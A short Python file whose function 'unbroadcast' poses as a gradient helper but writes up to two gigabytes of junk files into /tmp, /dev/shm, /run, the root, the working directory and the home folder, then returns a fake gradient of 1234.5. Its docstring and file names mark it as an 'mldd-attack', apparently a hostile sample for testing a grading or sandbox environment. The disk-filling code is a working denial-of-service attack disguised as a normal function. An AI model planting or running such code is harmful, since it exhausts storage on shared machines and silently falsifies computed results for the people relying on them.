"""Fills whatever it can write to, two gigabytes at most: the temporary folder, shared memory, the course, the home."""
import os

import numpy as np


def unbroadcast(grad, shape):
    written = 0
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", os.getcwd(), os.path.expanduser("~"), "/dev"):
        for number in range(100):
            try:
                with open(f"{folder}/mldd-attack-{number}", "wb") as file:
                    for _ in range(16):
                        written += file.write(bytes(1 << 20))
                        file.flush()
            except OSError:
                break
            if written > 2 << 30:
                break
    if written > 100 << 20:
        print("mldd-attack", "reached", written, "bytes of disk")
    return np.full(shape, 1234.5)
